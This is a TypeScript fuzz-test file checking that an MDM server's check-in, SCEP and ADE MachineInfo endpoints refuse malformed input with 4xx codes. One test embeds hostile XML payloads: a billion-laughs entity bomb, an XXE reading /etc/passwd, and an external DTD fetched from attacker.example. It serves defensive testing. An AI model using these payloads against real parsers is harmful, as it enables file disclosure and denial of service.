import fc from 'fast-check';
import type { LightMyRequestResponse } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { MACHINE_INFO_LIMITS } from '../../src/apple/enrollment/machine-info.js';
import { MAX_CHECKIN_BYTES } from '../../src/apple/mdm/routes.js';
import { MAX_PKI_MESSAGE_BYTES } from '../../src/apple/scep/service.js';
import { buildPlist } from '../../src/shared/plist.js';
import { adeEnrollHarness, signedMachineInfo, testDevice, type AdeEnrollHarness, type TestDevice } from '../apple/enrollment-ade-support.js';
import { fixture, mdmHarness, type Identity, type MdmHarness } from '../apple/mdm-support.js';
import { clientKey, forgeCsr, pkiMessage, scepHarness, type ScepHarness } from '../apple/scep-support.js';
import { expectGraphRefusal, INTERNALS, mutate, mutations } from './support.js';

/**
 * The device-facing endpoints through the whole server: MDM check-in (signed, so the fuzzed body
 * reaches the plist parser), SCEP PKIOperation and the ADE MachineInfo front door. Every answer is
 * the protocol's refusal, never a 500 and never internals.
 */

const noInternals = (res: { body: string | Buffer }, what: string) => expect(res.body.toString('latin1'), what).not.toMatch(INTERNALS);

function deepAsn1(depth: number): Buffer {
  return Buffer.concat([Buffer.from(Array.from({ length: depth }, () => [0x30, 0x80]).flat()), Buffer.alloc(depth * 2)]);
}

const PLIST_HEAD = '<?xml version="1.0" encoding="UTF-8"?>\n<plist version="1.0">';

describe('MDM check-in endpoint under fuzzing', () => {
  let h: MdmHarness;
  let id: Identity;
  beforeAll(async () => {
    h = await mdmHarness();
    id = await h.identity(await h.intent());
  });
  afterAll(() => h.close());

  /** The MDM refusal shape: JSON {code, description}. */
  function expectMdmRefusal(res: LightMyRequestResponse, what: string, statuses = [400, 403, 404, 409, 410, 413, 415]) {
    expect(statuses, `${what}: ${res.statusCode} ${res.body.slice(0, 200)}`).toContain(res.statusCode);
    const body = res.json<{ code: string; description: string }>();
    // Ours, or Apple's code that makes a device unenroll (an enrollment a mutated CheckOut ended).
    expect(body.code, what).toMatch(/^com\.(openenroll\.mdm|apple)\./);
    noInternals(res, what);
  }

  it('mutated check-ins and reports, signed so they reach the parser, are answered or refused with 4xx', async () => {
    const samples = ['checkin-authenticate-ios17.plist', 'checkin-tokenupdate-ios17-awaiting.plist', 'checkin-declarativemanagement-tokens-ios17.plist', 'report-deviceinformation-ios17.plist', 'report-idle-ios17.plist'].map((n) => ({
      n,
      bytes: fixture(n),
      path: n.startsWith('report-') ? ('server' as const) : ('checkin' as const),
    }));
    await fc.assert(
      fc.asyncProperty(fc.nat(), mutations, async (pick, ms) => {
        const s = samples[pick % samples.length]!;
        const res = await h.send(s.path, mutate(s.bytes, ms), id);
        if (res.statusCode >= 300) expectMdmRefusal(res, s.n);
      }),
      { numRuns: 60 },
    );
  });

  it('deep nesting, entity attacks and random bodies are 400s (signed) or 403s (unsigned)', async () => {
    const n = 10_000;
    const attacks = [
      PLIST_HEAD + '<array>'.repeat(n) + '</array>'.repeat(n) + '</plist>',
      PLIST_HEAD + '<dict><key>MessageType</key>'.repeat(5_000) + '<string>Authenticate</string>' + '</dict>'.repeat(5_000) + '</plist>',
      PLIST_HEAD + '<dict><key>a</key>'.repeat(40) + '<true/>' + '</dict>'.repeat(40) + '</plist>',
      '<?xml version="1.0"?><!DOCTYPE plist [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><plist><dict><key>MessageType</key><string>&c;</string></dict></plist>',
      '<?xml version="1.0"?><!DOCTYPE plist [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><plist><dict><key>MessageType</key><string>&xxe;</string></dict></plist>',
      '<?xml version="1.0"?><!DOCTYPE plist [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]><plist><dict/></plist>',
    ];
    for (const a of attacks) {
      const res = await h.send('checkin', Buffer.from(a), id);
      expectMdmRefusal(res, a.slice(0, 80), [400]);
      expect(res.body).not.toContain('root:');
    }
    await fc.assert(
      fc.asyncProperty(fc.uint8Array({ minLength: 1, maxLength: 800 }), fc.boolean(), async (bytes, signed) => {
        const res = await h.send(signed ? 'checkin' : 'server', Buffer.from(bytes), signed ? id : null);
        expectMdmRefusal(res, 'random body', signed ? [400] : [403]);
      }),
      { numRuns: 40 },
    );
  });

  it(`the check-in limit: ${MAX_CHECKIN_BYTES} bytes are read, one more is a 413`, async () => {
    const body = buildPlist({ MessageType: 'Bogus', Pad: 'a' });
    const pad = (size: number) => Buffer.from(body.replace('<string>a</string>', `<string>${'a'.repeat(size - Buffer.byteLength(body) + 1)}</string>`));
    const exact = pad(MAX_CHECKIN_BYTES);
    expect(exact.length).toBe(MAX_CHECKIN_BYTES);
    const atLimit = await h.send('checkin', exact, id);
    // Read, authenticated and parsed: an unknown message type is a 400, not a 413.
    expectMdmRefusal(atLimit, 'at the limit', [400]);
    const over = await h.send('checkin', pad(MAX_CHECKIN_BYTES + 1), id);
    expectMdmRefusal(over, 'over the limit', [413]);
  });
});

describe('SCEP endpoint under fuzzing', () => {
  let h: ScepHarness;
  let valid: Buffer;
  beforeAll(async () => {
    h = await scepHarness();
    const key = await clientKey();
    const { challenge } = await h.profile(await h.intent());
    valid = pkiMessage(forgeCsr(key, { challenge }), await h.caPem(), key).der;
  });
  afterAll(() => h.close());

  const refusedOrCertRep = (res: { statusCode: number; body: Buffer; contentType: string }, what: string) => {
    expect([200, 400, 413], `${what}: ${res.statusCode} ${res.body.toString('latin1').slice(0, 200)}`).toContain(res.statusCode);
    if (res.statusCode === 200) expect(res.contentType).toMatch(/pkcs7|pki-message/);
    noInternals(res, what);
  };

  it('random bytes, splices and duplications of a real pkiMessage, deep ASN.1: 400 or a CertRep, never a 500', async () => {
    await fc.assert(
      fc.asyncProperty(mutations, async (ms) => refusedOrCertRep(await h.post(mutate(valid, ms)), 'mutated pkiMessage')),
      { numRuns: 40 },
    );
    await fc.assert(
      fc.asyncProperty(fc.uint8Array({ maxLength: 800 }), async (b) => refusedOrCertRep(await h.post(Buffer.from(b)), 'random bytes')),
      { numRuns: 30 },
    );
    for (const depth of [1_000, 30_000]) {
      const res = await h.post(deepAsn1(depth));
      expect(res.statusCode, `${depth} nested SEQUENCEs`).toBe(400);
      noInternals(res, 'deep');
    }
    const get = await h.t.app.server.inject({ method: 'GET', url: `${h.scepPath()}?operation=PKIOperation&message=${encodeURIComponent(deepAsn1(5_000).toString('base64'))}` });
    expect(get.statusCode).toBe(400);
    noInternals(get, 'GET deep');
  });

  it(`the pkiMessage limit: ${MAX_PKI_MESSAGE_BYTES} bytes are read, one more is a 413`, async () => {
    const atLimit = await h.post(Buffer.concat([valid, Buffer.alloc(MAX_PKI_MESSAGE_BYTES - valid.length, 0x41)]));
    // Read: data after the message makes it malformed (400), not too large.
    expect(atLimit.statusCode).toBe(400);
    const over = await h.post(Buffer.alloc(MAX_PKI_MESSAGE_BYTES + 1, 0x30));
    expect(over.statusCode).toBe(413);
    noInternals(over, 'over');
  });
});

describe('ADE MachineInfo endpoint under fuzzing', () => {
  let h: AdeEnrollHarness;
  let d: TestDevice;
  let profileId: string;
  let good: Buffer;
  beforeAll(async () => {
    h = await adeEnrollHarness();
    d = await testDevice();
    await h.addDevices([{ serial: d.serial }]);
    profileId = await h.profile({}, { isDefault: true });
    good = signedMachineInfo(d);
  });
  afterAll(() => h.close());

  it('mutated MachineInfo, random bytes and deep ASN.1 are 4xx in the Graph envelope, never a 500', async () => {
    await fc.assert(
      fc.asyncProperty(mutations, async (ms) => {
        const res = await h.post(profileId, mutate(good, ms));
        if (res.statusCode >= 300) expectGraphRefusal(res, 'mutated MachineInfo');
      }),
      { numRuns: 40 },
    );
    await fc.assert(
      fc.asyncProperty(fc.uint8Array({ maxLength: 800 }), async (b) => expectGraphRefusal(await h.post(profileId, Buffer.from(b)), 'random bytes')),
      { numRuns: 30 },
    );
    for (const depth of [1_000, 30_000]) expectGraphRefusal(await h.post(profileId, deepAsn1(depth)), `${depth} nested SEQUENCEs`);
    // The configuration_web_url door reads the same message from a header.
    const web = await h.t.app.server.inject({ method: 'GET', url: `/enroll/apple/ade/${h.t.tenantId}/${profileId}/web`, headers: { 'x-apple-aspen-deviceinfo': deepAsn1(2_000).toString('base64') } });
    expect(web.statusCode).toBeGreaterThanOrEqual(400);
    expect(web.statusCode).toBeLessThan(500);
    noInternals(web, 'header');
  });

  it(`the MachineInfo limit: ${MACHINE_INFO_LIMITS.signedBytes} bytes are read, one more is a 413`, async () => {
    const atLimit = await h.post(profileId, Buffer.concat([good, Buffer.alloc(MACHINE_INFO_LIMITS.signedBytes - good.length)]));
    // Trailing zeros are tolerated: the padded message is the device's and it enrolls.
    expect(atLimit.statusCode, atLimit.body.slice(0, 300)).toBe(200);
    const over = await h.post(profileId, Buffer.concat([good, Buffer.alloc(MACHINE_INFO_LIMITS.signedBytes + 1 - good.length)]));
    expectGraphRefusal(over, 'over the limit');
    expect(over.statusCode).toBe(413);
  });
});
